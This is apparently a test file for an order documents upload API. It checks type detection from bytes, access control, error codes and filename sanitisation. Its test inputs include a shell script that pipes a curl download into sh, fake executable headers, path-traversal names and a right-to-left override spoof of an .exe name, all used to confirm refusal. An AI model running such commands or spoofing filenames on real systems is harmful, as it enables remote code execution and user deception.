// The order documents API over HTTP: uploads (type decided from the bytes), lists and reads with
// download links that give back the same bytes, who sees what, and every refusal with its code.
import { createHash } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { inject, afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib';
import { createDocumentClient } from '../../shared/adapters/dynamo/client.ts';
import { DynamoDocumentStore } from '../../shared/adapters/dynamo/document-store.ts';
import { S3BlobStore } from '../../shared/adapters/aws/s3-blob-store.ts';
import { documentBlobKey } from '../../shared/app/ports.ts';
import { MAX_DOCUMENT_BYTES, sanitizeFilename } from '../../shared/app/use-cases/documents.ts';
import { accountBody, portInBody, startTestApi, type TestApi } from '../support/api.ts';

let api: TestApi;
let losingCarrier: { id: string; apiKey: string };
let otherCarrier: { id: string; apiKey: string };
let customer: { id: string; apiKey: string };
let otherCustomer: { id: string; apiKey: string };
let orderId: string;

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

// ---- real files, made here --------------------------------------------------------------------

async function makePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([300, 200]);
  page.drawText('Bill: Alex Martin, ACC-1001', { x: 20, y: 150, size: 12, font: await pdf.embedFont(StandardFonts.Helvetica) });
  return Buffer.from(await pdf.save());
}

/** A 1x1 RGB PNG: signature, IHDR, IDAT (one filtered scanline, deflated), IEND, each chunk with its CRC. */
function makePng(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.byteLength);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0); // width
  header.writeUInt32BE(1, 4); // height
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, no filter, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.from([0, 0x33, 0x66, 0xcc]))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * An 8x8 mid-grey baseline JPEG: quantization all 1, one Huffman code per table (DC difference
 * category 0, AC end-of-block), so the single block's entropy-coded data is the bits 0 0, padded with ones.
 */
function makeJpeg(): Buffer {
  const oneCode = (tableClassAndId: number) => [0xff, 0xc4, 0x00, 0x14, tableClassAndId, 1, ...new Array(15).fill(0), 0x00];
  return Buffer.from([
    0xff, 0xd8, // SOI
    0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, // APP0 JFIF
    0xff, 0xdb, 0x00, 0x43, 0x00, ...new Array(64).fill(1), // DQT
    0xff, 0xc0, 0x00, 0x0b, 0x08, 0x00, 0x08, 0x00, 0x08, 0x01, 0x01, 0x11, 0x00, // SOF0: 8x8, one component
    ...oneCode(0x00), // DHT DC 0
    ...oneCode(0x10), // DHT AC 0
    0xff, 0xda, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00, // SOS
    0x3f, // DC 0, EOB, padding
    0xff, 0xd9, // EOI
  ]);
}

/** A Windows PE header (DOS stub "MZ"), as a renamed program starts. */
const exeBytes = () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]);
/** An ELF header (64-bit little-endian). */
const elfBytes = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);

// ---- calls --------------------------------------------------------------------------------------

interface Upload {
  bytes: Buffer;
  filename: string;
  type?: string;
  kind?: string;
}

async function upload(id: string, key: string, file: Upload) {
  const form = new FormData();
  if (file.kind !== undefined) form.append('kind', file.kind);
  form.append('file', new Blob([new Uint8Array(file.bytes)], { type: file.type ?? 'application/pdf' }), file.filename);
  const response = await fetch(`${api.baseUrl}/v1/port-ins/${id}/documents`, { method: 'POST', headers: { authorization: `Bearer ${key}` }, body: form });
  return { status: response.status, headers: response.headers, body: (await response.json()) as any };
}

async function download(url: string): Promise<{ status: number; type: string | null; bytes: Buffer }> {
  const response = await fetch(url);
  return { status: response.status, type: response.headers.get('content-type'), bytes: Buffer.from(await response.arrayBuffer()) };
}

let drafts = 0;
/** A draft order of its own number (a number is in one active order at a time). */
async function newDraft(key: string): Promise<string> {
  const number = `+617321234${String(drafts++).padStart(2, '0')}`;
  const created = await api.call('POST', '/v1/port-ins', { key, body: portInBody('AU', losingCarrier.id, { numbers: [{ number, lineType: 'pstn' }] }) });
  expect(created.status).toBe(201);
  return created.body.id as string;
}

beforeAll(async () => {
  api = await startTestApi();
  losingCarrier = (await api.call('POST', '/v1/carriers', { body: { name: 'Losing Telco' } })).body;
  otherCarrier = (await api.call('POST', '/v1/carriers', { body: { name: 'Other Telco' } })).body;
  customer = (await api.call('POST', '/v1/accounts', { body: accountBody('AU') })).body;
  otherCustomer = (await api.call('POST', '/v1/accounts', { body: accountBody('AU') })).body;
  orderId = await newDraft(customer.apiKey);
});
afterAll(async () => {
  await api.close();
});

describe('uploading, listing and downloading', () => {
  const files: Record<'pdf' | 'png' | 'jpeg', Buffer> = { pdf: Buffer.alloc(0), png: Buffer.alloc(0), jpeg: Buffer.alloc(0) };
  const ids: string[] = [];

  beforeAll(async () => {
    files.pdf = await makePdf();
    files.png = makePng();
    files.jpeg = makeJpeg();
  });

  it('takes a PDF, a PNG and a JPEG and answers 201 with the document and its location', async () => {
    const started = Date.now();
    const pdf = await upload(orderId, customer.apiKey, { bytes: files.pdf, filename: 'march bill.pdf' });
    expect(pdf.status).toBe(201);
    expect(pdf.body).toEqual({
      id: expect.stringMatching(/^doc_[a-z2-7]{16}$/),
      orderId,
      kind: 'bill_copy',
      filename: 'march bill.pdf',
      contentType: 'application/pdf',
      size: files.pdf.byteLength,
      sha256: sha256(files.pdf),
      source: { channel: 'upload' },
      createdAt: expect.any(String),
      downloadUrl: expect.any(String),
      downloadUrlExpiresAt: expect.any(String),
    });
    expect(pdf.headers.get('location')).toBe(`/v1/port-ins/${orderId}/documents/${pdf.body.id}`);
    const expiresIn = Date.parse(pdf.body.downloadUrlExpiresAt) - started;
    expect(expiresIn).toBeGreaterThan(890_000);
    expect(expiresIn).toBeLessThanOrEqual(905_000);

    const png = await upload(orderId, api.operatorKey, { bytes: files.png, filename: 'C:\\Users\\alex\\photo.png', type: 'image/png', kind: 'other' });
    expect(png.status).toBe(201);
    expect(png.body).toMatchObject({ kind: 'other', filename: 'photo.png', contentType: 'image/png', size: files.png.byteLength, sha256: sha256(files.png) });

    const jpeg = await upload(orderId, customer.apiKey, { bytes: files.jpeg, filename: 'scan.JPEG', type: 'image/jpeg' });
    expect(jpeg.status).toBe(201);
    expect(jpeg.body).toMatchObject({ kind: 'bill_copy', filename: 'scan.JPEG', contentType: 'image/jpeg', sha256: sha256(files.jpeg) });
    ids.push(pdf.body.id, png.body.id, jpeg.body.id);
  });

  it('lists them oldest first, page by page, with links that download the very bytes', async () => {
    const first = await api.call('GET', `/v1/port-ins/${orderId}/documents?limit=2`, { key: customer.apiKey });
    expect(first.status).toBe(200);
    expect(first.body.items.map((d: { id: string }) => d.id)).toEqual(ids.slice(0, 2));
    expect(first.body.nextCursor).toEqual(expect.any(String));
    const second = await api.call('GET', `/v1/port-ins/${orderId}/documents?limit=2&cursor=${encodeURIComponent(first.body.nextCursor)}`, { key: customer.apiKey });
    expect(second.body.items.map((d: { id: string }) => d.id)).toEqual(ids.slice(2));

    const all = [...first.body.items, ...second.body.items];
    const expected = [files.pdf, files.png, files.jpeg];
    for (const [i, document] of all.entries()) {
      const got = await download(document.downloadUrl);
      expect(got.status).toBe(200);
      expect(got.type).toBe(document.contentType);
      expect(sha256(got.bytes)).toBe(document.sha256);
      expect(got.bytes.equals(expected[i]!)).toBe(true);
    }
  });

  it('reads one document, for the customer, the losing carrier and operators', async () => {
    for (const key of [customer.apiKey, losingCarrier.apiKey, api.operatorKey]) {
      const one = await api.call('GET', `/v1/port-ins/${orderId}/documents/${ids[1]}`, { key });
      expect(one.status).toBe(200);
      expect(one.body).toMatchObject({ id: ids[1], orderId, contentType: 'image/png', source: { channel: 'upload' } });
      expect(one.body).not.toHaveProperty('blobKey');
      expect((await download(one.body.downloadUrl)).bytes.equals(files.png)).toBe(true);
    }
    const missing = await api.call('GET', `/v1/port-ins/${orderId}/documents/doc_doesnotexist`, { key: customer.apiKey });
    expect(missing.status).toBe(404);
    expect(missing.body.code).toBe('not_found');
  });

  it("is a 404 for another customer and for a carrier that is not the order's losing carrier", async () => {
    for (const key of [otherCustomer.apiKey, otherCarrier.apiKey]) {
      const list = await api.call('GET', `/v1/port-ins/${orderId}/documents`, { key });
      expect(list.status).toBe(404);
      expect(list.body.code).toBe('not_found');
      const one = await api.call('GET', `/v1/port-ins/${orderId}/documents/${ids[0]}`, { key });
      expect(one.status).toBe(404);
      expect(JSON.stringify(one.body)).not.toContain('downloadUrl');
    }
    const foreign = await upload(orderId, otherCustomer.apiKey, { bytes: files.pdf, filename: 'bill.pdf' });
    expect(foreign.status).toBe(404);
    // Carriers read documents but do not upload them.
    const byCarrier = await upload(orderId, losingCarrier.apiKey, { bytes: files.pdf, filename: 'bill.pdf' });
    expect(byCarrier.status).toBe(403);
    expect((await api.call('GET', `/v1/port-ins/${orderId}/documents`, { key: customer.apiKey })).body.items).toHaveLength(3);
  });
});

describe('the type comes from the bytes', () => {
  it('keeps a PNG named bill.pdf and declared as a PDF as a PNG, with a matching extension', async () => {
    const id = await newDraft(customer.apiKey);
    const answer = await upload(id, customer.apiKey, { bytes: makePng(), filename: '../../bill.pdf', type: 'application/pdf' });
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({ contentType: 'image/png', filename: 'bill.png' });
    expect((await download(answer.body.downloadUrl)).type).toBe('image/png');
  });
});

describe('refused uploads', () => {
  let id: string;
  beforeAll(async () => {
    id = await newDraft(customer.apiKey);
  });

  const problem = (answer: { status: number; body: any }, status: number, code: string, detail: RegExp) => {
    expect(answer.status).toBe(status);
    expect(answer.body).toMatchObject({ status, code, detail: expect.stringMatching(detail) });
  };

  it('refuses text named bill.pdf, naming what it is', async () => {
    problem(await upload(id, customer.apiKey, { bytes: Buffer.from('Total due: $42.00\n'), filename: 'bill.pdf' }), 415, 'unsupported_document_type', /plain text.*PDF, PNG or JPEG/);
  });

  it('refuses another real type, naming it', async () => {
    const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0]), Buffer.from(';')]);
    problem(await upload(id, customer.apiKey, { bytes: gif, filename: 'bill.jpg', type: 'image/jpeg' }), 415, 'unsupported_document_type', /image\/gif/);
  });

  it('refuses renamed executables and scripts', async () => {
    for (const bytes of [exeBytes(), elfBytes(), Buffer.from('#!/bin/sh\ncurl https://example.invalid | sh\n')]) {
      problem(await upload(id, customer.apiKey, { bytes, filename: 'bill.pdf' }), 415, 'document_executable', /renamed executables are refused/);
    }
  });

  it('refuses an empty file', async () => {
    problem(await upload(id, customer.apiKey, { bytes: Buffer.alloc(0), filename: 'bill.pdf' }), 400, 'document_empty', /empty/);
  });

  it('refuses a file over 4 MiB with 413, and takes one of exactly 4 MiB', async () => {
    const pdf = await makePdf();
    // A PDF padded with a comment to the byte: still a PDF.
    const padded = (size: number) => Buffer.concat([pdf, Buffer.from('%'), Buffer.alloc(size - pdf.byteLength - 2, 0x41), Buffer.from('\n')]);
    problem(await upload(id, customer.apiKey, { bytes: padded(MAX_DOCUMENT_BYTES + 1), filename: 'bill.pdf' }), 413, 'document_too_large', /larger than 4194304 bytes/);
    const exact = await upload(id, customer.apiKey, { bytes: padded(MAX_DOCUMENT_BYTES), filename: 'bill.pdf' });
    expect(exact.status).toBe(201);
    expect(exact.body.size).toBe(MAX_DOCUMENT_BYTES);
  });

  it('refuses JSON instead of multipart, a form without the file, and an unknown kind', async () => {
    const json = await api.call('POST', `/v1/port-ins/${id}/documents`, { key: customer.apiKey, body: { file: 'JVBERi0=', filename: 'bill.pdf' } });
    problem(json, 415, 'unsupported_media_type', /multipart\/form-data with a "file" part/);

    const noFile = new FormData();
    noFile.append('kind', 'bill_copy');
    const response = await fetch(`${api.baseUrl}/v1/port-ins/${id}/documents`, { method: 'POST', headers: { authorization: `Bearer ${customer.apiKey}` }, body: noFile });
    problem({ status: response.status, body: await response.json() }, 400, 'file_part_missing', /"file" part/);

    const badKind = await upload(id, customer.apiKey, { bytes: makePng(), filename: 'a.png', type: 'image/png', kind: 'loa_signed' });
    problem(badKind, 400, 'invalid_request', /kind is bill_copy \(default\) or other/);
    expect(badKind.body.errors).toEqual([expect.objectContaining({ path: 'kind' })]);
  });

  it('stored nothing for the refusals', async () => {
    const list = await api.call('GET', `/v1/port-ins/${id}/documents`, { key: customer.apiKey });
    expect(list.body.items.map((d: { size: number }) => d.size)).toEqual([MAX_DOCUMENT_BYTES]);
  });

  it('refuses documents for an order that is over', async () => {
    const cancelled = await newDraft(customer.apiKey);
    expect((await api.call('POST', `/v1/port-ins/${cancelled}/cancel`, { key: customer.apiKey, body: {} })).body.status).toBe('cancelled');
    const answer = await upload(cancelled, customer.apiKey, { bytes: makePng(), filename: 'a.png', type: 'image/png' });
    problem(answer, 409, 'order_final', /cancelled/);
  });
});

describe('documents written elsewhere (the LOA, email attachments)', () => {
  it('are listed with the uploads; only operators see which email a document came from', async () => {
    const id = await newDraft(customer.apiKey);
    const documents = new DynamoDocumentStore(createDocumentClient({ endpoint: inject('dynamoEndpoint'), region: 'ap-southeast-2' }), process.env.TABLE_NAME!);
    const blobs = new S3BlobStore({ bucket: process.env.RAW_MAIL_BUCKET!, endpoint: inject('s3Endpoint'), region: 'ap-southeast-2' });
    const loa = await makePdf();
    const png = makePng();
    const written = [
      { id: 'doc_loasigned0000000', kind: 'loa_signed', filename: 'LOA signed.pdf', bytes: loa, contentType: 'application/pdf', source: { channel: 'system' } },
      { id: 'doc_fromemail0000000', kind: 'bill_copy', filename: 'bill.png', bytes: png, contentType: 'image/png', source: { channel: 'email', inboundEmailId: 'ibm_0123456789abcdef0123456789abcdef' } },
    ] as const;
    for (const [i, d] of written.entries()) {
      await blobs.put(documentBlobKey(id, d.id), d.bytes, d.contentType);
      await documents.putDocument({
        id: d.id,
        orderId: id,
        kind: d.kind,
        filename: d.filename,
        contentType: d.contentType,
        size: d.bytes.byteLength,
        sha256: sha256(d.bytes),
        blobKey: documentBlobKey(id, d.id),
        source: { ...d.source },
        createdAt: `2026-01-0${i + 1}T00:00:00.000Z`,
      });
    }

    const asCustomer = await api.call('GET', `/v1/port-ins/${id}/documents`, { key: customer.apiKey });
    expect(asCustomer.body.items.map((d: { kind: string; source: unknown }) => [d.kind, d.source])).toEqual([
      ['loa_signed', { channel: 'system' }],
      ['bill_copy', { channel: 'email' }],
    ]);
    expect(JSON.stringify(asCustomer.body)).not.toMatch(/blobKey|inboundEmailId|ibm_/);
    const asCarrier = await api.call('GET', `/v1/port-ins/${id}/documents/doc_fromemail0000000`, { key: losingCarrier.apiKey });
    expect(asCarrier.body.source).toEqual({ channel: 'email' });
    expect((await download(asCarrier.body.downloadUrl)).bytes.equals(png)).toBe(true);

    const asOperator = await api.call('GET', `/v1/port-ins/${id}/documents/doc_fromemail0000000`, { key: api.operatorKey });
    expect(asOperator.body.source).toEqual({ channel: 'email', inboundEmailId: 'ibm_0123456789abcdef0123456789abcdef' });
    expect(asOperator.body).not.toHaveProperty('blobKey');
    const signed = asCustomer.body.items[0];
    expect((await download(signed.downloadUrl)).bytes.equals(loa)).toBe(true);
  });
});

describe('OpenAPI', () => {
  it('documents the upload as a multipart form, and the list with cursor and limit', async () => {
    const doc = (await api.call('GET', '/openapi.json', { key: null })).body;
    const uploadOp = doc.paths['/v1/port-ins/{id}/documents'].post;
    expect(uploadOp.requestBody.content).toEqual({ 'multipart/form-data': { schema: { $ref: '#/components/schemas/UploadDocument' } } });
    expect(doc.components.schemas.UploadDocument).toMatchObject({
      required: ['file'],
      properties: { file: { type: 'string', format: 'binary' }, kind: { enum: ['bill_copy', 'other'], default: 'bill_copy' } },
    });
    expect(Object.keys(uploadOp.responses)).toEqual(expect.arrayContaining(['201', '413', '415']));
    const listOp = doc.paths['/v1/port-ins/{id}/documents'].get;
    expect(listOp.parameters.map((p: { name: string; in: string }) => `${p.in}:${p.name}`)).toEqual(['path:id', 'query:cursor', 'query:limit']);
  });
});

describe('stored filenames', () => {
  it('drop directories, control and direction-changing characters, and keep an extension of the detected type', () => {
    expect(sanitizeFilename('/etc/../bill.pdf', 'application/pdf')).toBe('bill.pdf');
    expect(sanitizeFilename('C:\\scans\\bill.PDF', 'application/pdf')).toBe('bill.PDF');
    expect(sanitizeFilename('bill\u0000\u001b[31m\r\n.pdf', 'application/pdf')).toBe('bill[31m.pdf');
    // U+202E shows "bill_fdp.exe" as "bill_exe.pdf"; without it the name is what it is.
    expect(sanitizeFilename('bill_\u202efdp.exe', 'application/pdf')).toBe('bill_fdp.pdf');
    expect(sanitizeFilename('photo.jpeg', 'image/jpeg')).toBe('photo.jpeg');
    expect(sanitizeFilename('photo.png', 'image/jpeg')).toBe('photo.jpg');
    expect(sanitizeFilename('scan.2024.03', 'image/png')).toBe('scan.2024.03.png');
    expect(sanitizeFilename('', 'application/pdf')).toBe('document.pdf');
    expect(sanitizeFilename('.pdf', 'application/pdf')).toBe('document.pdf');
  });

  it('are at most 200 characters, the extension kept', () => {
    const long = sanitizeFilename(`${'é'.repeat(300)}.pdf`, 'application/pdf');
    expect(Array.from(long)).toHaveLength(200);
    expect(long.endsWith('é.pdf')).toBe(true);
  });
});
